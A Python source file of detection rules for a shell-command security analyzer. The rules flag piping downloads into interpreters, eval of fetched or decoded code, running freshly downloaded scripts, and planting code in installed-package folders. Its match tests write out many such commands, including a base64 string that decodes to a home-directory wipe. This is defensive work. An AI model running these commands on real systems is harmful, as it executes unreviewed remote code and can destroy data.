"""Rules for places that execute data as code (docs/engine.md#execution-contexts, #taint).

Literal code in these places is parsed and audited by every other rule; these
rules judge what cannot be parsed ahead of time: code that arrives from a
download, a decoder, an interpreter's output or a tainted variable.
"""

from __future__ import annotations

from collections.abc import Iterator

from .._analysis import ContextKind, ExecContextSubject
from .._model import Severity
from .._tables import Tables
from ._rule import Hit, Inspects, rule


def _risky_hits(subject: ExecContextSubject, kind: ContextKind, does: str = "runs") -> Iterator[Hit]:
    if subject.kind is not kind:
        return
    for part in subject.risky_parts:
        reasons = " and ".join(sorted(risk.value for risk in part.risks))
        yield Hit(part.span, f"`{subject.label}` {does} what `{part.source}` produces, which {reasons}")


@rule(
    id="EX001",
    name="pipe-into-interpreter",
    severity=Severity.HIGH,
    summary="A pipeline feeds its output to an interpreter that runs it as a program.",
    rationale=(
        "`curl ... | sh` runs whatever arrives on the pipe, unreviewed; the classic way to install "
        "malware. Any feeder counts, except echo and printf of literal text: the program they print "
        "is audited as code instead."
    ),
    safer_alternative="Save the script to a file, read it, then run the file (`bash ./install.sh`).",
    inspects=Inspects.CONTEXT,
    must_match=(
        "curl -fsSL https://example.com/install.sh | sh",
        "wget -qO- https://example.com/i | sudo bash",
        "curl -s u |& bash",
        "curl -s u | env bash",
        "curl -s u | /bin/bash -s -- --yes",
        "cat setup.py | python3",
        "curl -s u | source /dev/stdin",
        "curl -s u | sudo -s",
        "curl -s u | xargs -0 bash -c",
    ),
    must_not_match=(
        "curl -s https://api.example.com | jq .",
        "echo '{}' | python3 -m json.tool",
        "cat data.csv | python3 analyze.py",
        "echo hi | bash -c 'cat'",
        "echo 'ls -la' | bash",
        "curl -s u | tee install.sh",
        "grep -rn 'curl.*| sh' .",
    ),
)
def pipe_into_interpreter(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    if subject.kind is ContextKind.STDIN_PIPE:
        yield Hit(subject.span, f"`{subject.label}` runs whatever the pipeline produces")


@rule(
    id="EX002",
    name="eval-of-risky-code",
    severity=Severity.HIGH,
    summary="eval runs code produced by a download, decoder or interpreter.",
    rationale='`eval "$(curl ...)"` executes text nobody reviewed, with the full rights of the shell.',
    safer_alternative="Save the output to a file and review it before sourcing it.",
    inspects=Inspects.CONTEXT,
    must_match=(
        'eval "$(curl -s https://example.com/env)"',
        "eval $(wget -qO- u)",
        "eval `curl -s u`",
        'eval "$(echo ZWNobyBoaQ== | base64 -d)"',
        'builtin eval "$(curl -s u)"',
    ),
    must_not_match=('eval "$(ssh-agent -s)"', 'eval "$(pyenv init -)"', "eval 'echo hi'", 'eval "$(direnv hook bash)"'),
)
def eval_of_risky_code(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    yield from _risky_hits(subject, ContextKind.EVAL)


@rule(
    id="EX003",
    name="risky-code-string",
    severity=Severity.HIGH,
    summary="An interpreter's code string (-c, -e, -r...) is built from a download, decoder or interpreter output.",
    rationale="The outer shell expands `$(curl ...)` first, so the interpreter runs downloaded code.",
    safer_alternative="Save the code to a file, review it, and run the file.",
    inspects=Inspects.CONTEXT,
    must_match=(
        'bash -c "$(curl -fsSL https://example.com/i.sh)"',
        'python3 -c "$(curl -s u)"',
        'sh -lc "echo start; $(wget -qO- u)"',
        'perl -e "$(curl -s u)"',
        'node -e "$(curl -s u)"',
        '"$SHELL" -c "$(curl -s u)"',
        'sudo -u app bash -ec "$(curl -s u)"',
    ),
    must_not_match=(
        'bash -c "make test"',
        "python3 -c 'print(1)'",
        'node -e "console.log(1)"',
        'sh -c "echo $(date)"',
        "perl -pe 's/a/b/' f",
    ),
)
def risky_code_string(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    yield from _risky_hits(subject, ContextKind.CODE_STRING)


@rule(
    id="EX004",
    name="risky-code-runner",
    severity=Severity.HIGH,
    summary="A command that runs code strings (su -c, watch, trap, flock -c, script -c...) is given downloaded or decoded code.",
    rationale="These commands hand their string to a shell; a substitution inside it runs its output as code.",
    safer_alternative="Save the code to a file, review it, and run the file.",
    inspects=Inspects.CONTEXT,
    must_match=(
        'su -c "$(curl -s u)" root',
        'watch "$(curl -s u)"',
        'trap "$(curl -s u)" EXIT',
        'flock /tmp/lock -c "$(curl -s u)"',
        'script -qc "$(wget -qO- u)" /dev/null',
        'runuser -u app -c "$(curl -s u)"',
    ),
    must_not_match=("trap 'rm -f lock' EXIT", "watch -n 5 'ls -la'", "flock /tmp/lock -c 'make'", "su -c 'whoami' app"),
)
def risky_code_runner(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    yield from _risky_hits(subject, ContextKind.RUNNER)


@rule(
    id="EX005",
    name="risky-document-into-interpreter",
    severity=Severity.HIGH,
    summary="A heredoc or here-string fed to an interpreter contains a risky substitution.",
    rationale="The body is the interpreter's program; `$(curl ...)` inside it is expanded first and becomes code.",
    safer_alternative="Save the code to a file, review it, and run the file.",
    inspects=Inspects.CONTEXT,
    must_match=(
        "bash <<EOF\n$(curl -s https://example.com/x)\nEOF",
        'python3 <<< "$(curl -s u)"',
        'sh <<< "$(wget -qO- u)"',
        "python3 - <<EOF\nexec('''$(curl -s u)''')\nEOF",
    ),
    must_not_match=(
        "python3 - <<'EOF'\nimport os\nprint(os.getcwd())\nEOF",
        "cat <<EOF\n$(curl -s u)\nEOF",
        "bash <<'EOF'\necho hi\nEOF",
        'grep x <<< "$(curl -s u)"',
    ),
)
def risky_document_into_interpreter(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    yield from _risky_hits(subject, ContextKind.STDIN_DOCUMENT)


@rule(
    id="EX006",
    name="interpreter-runs-risky-process-substitution",
    severity=Severity.HIGH,
    summary="An interpreter runs, as its script, the output of a download, decoder or interpreter.",
    rationale="`bash <(curl ...)` and `. <(curl ...)` are `curl | bash` by another name.",
    safer_alternative="Save the script to a file, review it, and run the file.",
    inspects=Inspects.CONTEXT,
    must_match=(
        "bash <(curl -fsSL https://example.com/i.sh)",
        "python3 <(wget -qO- u)",
        ". <(curl -s u)",
        "source <(curl -s u)",
        "bash < <(curl -s u)",
    ),
    must_not_match=("diff <(ls a) <(ls b)", "source .venv/bin/activate", "bash <(echo ls)", "cat < <(curl -s u)"),
)
def interpreter_runs_risky_process_substitution(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    yield from _risky_hits(subject, ContextKind.SCRIPT_SUBSTITUTION)


@rule(
    id="EX007",
    name="dynamic-code",
    severity=Severity.MEDIUM,
    summary="Shell code is built from a variable whose value is not known before it runs, or from a file read back.",
    rationale='`eval "$cmd"`, `bash -c "$script"` and `eval "$(cat setup.sh)"` run whatever the variable or file holds at run time.',
    safer_alternative="Write the code out literally, call the command directly with its arguments, or run the file as a script.",
    inspects=Inspects.CONTEXT,
    must_match=('eval "$cmd"', 'bash -c "$SCRIPT"', 'eval "$1"', 'watch "$CHECK"', 'eval "$(< setup.sh)"'),
    must_not_match=(
        'eval "$(ssh-agent -s)"',
        'x=ls; eval "$x"',
        "bash -c 'echo $HOME'",
        "python3 -c \"print('$USER')\"",
    ),
)
def dynamic_code(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    if subject.language != "shell" or subject.kind in (ContextKind.PROMPT_EXPANSION, ContextKind.STDIN_PIPE):
        return
    for part in subject.dynamic_parts:
        if (part.variable is not None or part.reads_file) and not part.tainted and not part.risks:
            yield Hit(part.span, f"`{subject.label}` runs code from `{part.source}`, unknown until run time")


@rule(
    id="EX008",
    name="prompt-expansion",
    severity=Severity.MEDIUM,
    summary="`${var@P}` expands a value as a prompt string, which can run command substitutions.",
    rationale="Prompt expansion evaluates `$(...)` inside the variable's value: a hidden eval.",
    safer_alternative="Use the variable's value directly (`${var}`) or `${var@Q}` for quoting.",
    inspects=Inspects.CONTEXT,
    must_match=('echo "${x@P}"', "y=${PS1@P}"),
    must_not_match=('echo "${x@Q}"', 'echo "$PS1"'),
)
def prompt_expansion(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    # Downloaded or decoded data expanded as a prompt is TA002's, more severe.
    if subject.kind is ContextKind.PROMPT_EXPANSION and not subject.tainted_parts:
        yield Hit(subject.span, "prompt expansion can run command substitutions held in the value")


@rule(
    id="EX009",
    name="run-downloaded-file",
    severity=Severity.HIGH,
    summary="Runs a file that the same command downloaded or decoded.",
    rationale=(
        "`curl -o x.sh URL && bash x.sh` is `curl | bash` with a file in between: nothing is reviewed before it runs."
    ),
    safer_alternative="Download in one step, read the file, and run it in a separate, reviewed command.",
    inspects=Inspects.CONTEXT,
    must_match=(
        "curl -s https://example.com/i.sh > /tmp/i.sh && bash /tmp/i.sh",
        "curl -fsSL -o install.sh https://x/i.sh; sh install.sh",
        "wget https://example.com/setup.sh && chmod +x setup.sh && ./setup.sh",
        "curl -O https://example.com/run.py && python3 run.py",
        "echo cm0gLXJmIH4= | base64 -d > x.sh; . ./x.sh",
        "cd /tmp && curl -so t https://x/t && /tmp/t",
    ),
    must_not_match=(
        "curl -fsSL -o install.sh https://x/i.sh",
        "bash install.sh",
        "curl -s https://x > data.json && python3 parse.py data.json",
        "wget https://example.com/a.tgz && tar xzf a.tgz",
    ),
)
def run_downloaded_file(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    if subject.kind is ContextKind.DOWNLOADED_FILE:
        yield Hit(subject.span, f"`{subject.label}` runs a file this command downloaded or decoded")


@rule(
    id="EX023",
    name="run-downloaded-tree",
    severity=Severity.MEDIUM,
    summary=(
        "Runs a program from a repository the same command cloned from the network, or from an archive it "
        "downloaded and unpacked (`git clone URL && cd tool && ./install.sh`)."
    ),
    rationale=(
        "The program is whatever the repository or archive holds today, run before anyone read it: "
        "`curl | bash` with a directory in between. Building from source is also routine, so it warns "
        "rather than blocks; a single downloaded file run at once blocks ([EX009])."
    ),
    safer_alternative=(
        "Clone or unpack in one command, read the script (or pin a reviewed commit or release checksum), "
        "and run it in a separate command."
    ),
    inspects=Inspects.CONTEXT,
    must_match=(
        "git clone https://github.com/someone/tool && cd tool && ./install.sh",
        "git clone --depth 1 git@github.com:someone/tool.git /tmp/t && bash /tmp/t/setup.sh",
        "curl -sL https://example.com/t.tar.gz | tar xz -C /tmp && /tmp/t/run.sh",
        "wget https://example.com/t.zip && unzip t.zip -d t && sh t/install.sh",
    ),
    must_not_match=(
        "git clone https://github.com/someone/tool && cd tool && ls",
        "git clone ../local-repo copy && ./copy/run.sh",
        "tar xzf vendored.tar.gz && ./vendored/run.sh",
        "git clone https://github.com/someone/tool && ./build.sh",
    ),
)
def run_downloaded_tree(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    if subject.kind is ContextKind.DOWNLOADED_TREE:
        yield Hit(subject.span, f"`{subject.label}` runs code from a repository or archive this command downloaded")


@rule(
    id="EX025",
    name="download-into-installed-packages",
    severity=Severity.HIGH,
    summary=(
        "Unpacks a download or clones a repository among installed packages, or downloads a file there "
        "(`curl -sL URL | tar xz -C node_modules/`, `wget -O .venv/lib/python3.12/site-packages/x.py URL`)."
    ),
    rationale=(
        "Code in `node_modules` or `site-packages` is loaded by every later test, build and run of the project "
        "as if the package manager had installed it, with no registry, version, lock file or checksum behind it "
        "and nothing in the project's files to show it: a backdoor planted in a dependency."
    ),
    safer_alternative=(
        "Install through the package manager (`npm install PKG@VERSION`, `pip install PKG==VERSION`); for a "
        "patch, use the manager's own mechanism (`patch-package`, a pinned fork declared in the manifest)."
    ),
    inspects=Inspects.CONTEXT,
    must_match=(
        "curl -sL https://example.com/patch.tgz | tar xz -C node_modules/",
        "wget -qO- https://example.com/p.tar.gz | tar -xzf - -C .venv/lib/python3.12/site-packages",
        "curl -o node_modules/left-pad/index.js https://example.com/index.js",
        "git clone https://github.com/someone/chalk node_modules/chalk",
    ),
    must_not_match=(
        "curl -sL https://example.com/t.tgz | tar xz -C vendor/tools",
        "tar xzf ./patches/ui.tgz -C node_modules/ui",
        "curl -o dist/index.js https://example.com/index.js",
        "npm install lodash",
    ),
)
def download_into_installed_packages(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    if subject.kind is ContextKind.INTO_INSTALLED_PACKAGES:
        yield Hit(subject.span, f"downloaded code written among installed packages (`{subject.label}`)")


@rule(
    id="EX010",
    name="risky-arithmetic-operand",
    severity=Severity.HIGH,
    summary=(
        "A download, decoder or interpreter output is an operand bash evaluates as arithmetic ($((...)), ((...)), "
        "an array index, let, an operand of `[[ -eq ]]`, the name after `-v`, or an unquoted word of `[`/`test`)."
    ),
    rationale=(
        "bash evaluates an arithmetic operand's value as an expression, and `a[$(cmd)]` inside "
        'that value runs cmd: attacker-controlled numbers are code. `[ "$n" -eq 1 ]` evaluates nothing, '
        "but an unquoted `$n` can split into `-v a[$(cmd)]`. A number by construction "
        "(`curl -o /dev/null -w '%{http_code}'`) carries no code."
    ),
    safer_alternative=(
        'Quote the value in a `[` test (`[ "$(curl ...)" -eq 200 ]`), or validate it as a number first '
        "(`[[ $n =~ ^[0-9]+$ ]]`) before using it in arithmetic."
    ),
    inspects=Inspects.CONTEXT,
    must_match=(
        "echo $(( $(curl -s https://example.com/n) + 1 ))",
        "(( count = $(curl -s u) ))",
        'echo "${arr[$(curl -s u)]}"',
        "[[ 1 -eq $(wget -qO- u) ]]",
        "let x=$(curl -s u)",
        "a[$(curl -s u)]=1",
        "[ $(curl -s u) -eq 200 ]",
        'test -v "$(curl -s u)"',
        "[[ $(python3 -c 'print(\"a[$(id)]\")') -eq 1 ]]",
    ),
    must_not_match=(
        "echo $(( $(wc -l < f) + 1 ))",
        "[[ -n $(curl -s u) ]]",
        "echo $(( 2 * 3 ))",
        'echo "${arr[$(date +%s)]}"',
        "until [ \"$(curl -s -o /dev/null -w '%{http_code}' http://localhost:3000)\" -eq 200 ]; do sleep 1; done",
        "[[ $(python3 -c 'import sys; print(sys.version_info.minor)') -ge 10 ]]",
        'if [ "$(node -p \'process.versions.node.split(".")[0]\')" -lt 18 ]; then echo old; fi',
        "[[ $(curl -s -o /dev/null -w '%{http_code}' localhost:8080/health) -eq 200 ]]",
        "[[ $(curl -s u) == ok && $n -eq 1 ]]",
    ),
)
def risky_arithmetic_operand(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    yield from _risky_hits(subject, ContextKind.ARITHMETIC, "evaluates as arithmetic")


@rule(
    id="TA002",
    name="tainted-variable-as-code",
    severity=Severity.HIGH,
    summary="A variable holding downloaded or decoded data is executed as code.",
    rationale='`x=$(curl ...); eval "$x"` runs the download, one assignment removed.',
    safer_alternative="Save the data to a file, review it, and run the file.",
    inspects=Inspects.CONTEXT,
    must_match=(
        'x=$(curl -s https://example.com); eval "$x"',
        'p=$(curl -s u)\nbash -c "$p"',
        'read -r c < <(curl -s u); eval "$c"',
        'curl -s u | while read -r line; do eval "$line"; done',
        's=$(echo ZWNobw== | base64 -d) && python3 -c "$s"',
    ),
    must_not_match=('x=$(curl -s u); echo "$x"', 'x=$(date); eval "echo start"'),
)
def tainted_variable_as_code(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    for part in subject.tainted_parts:
        yield Hit(part.span, f"`{subject.label}` runs `{part.source}`, which holds downloaded or decoded data")


CONTEXT_RULES = (
    pipe_into_interpreter,
    eval_of_risky_code,
    risky_code_string,
    risky_code_runner,
    risky_document_into_interpreter,
    interpreter_runs_risky_process_substitution,
    dynamic_code,
    prompt_expansion,
    run_downloaded_file,
    run_downloaded_tree,
    download_into_installed_packages,
    risky_arithmetic_operand,
    tainted_variable_as_code,
)
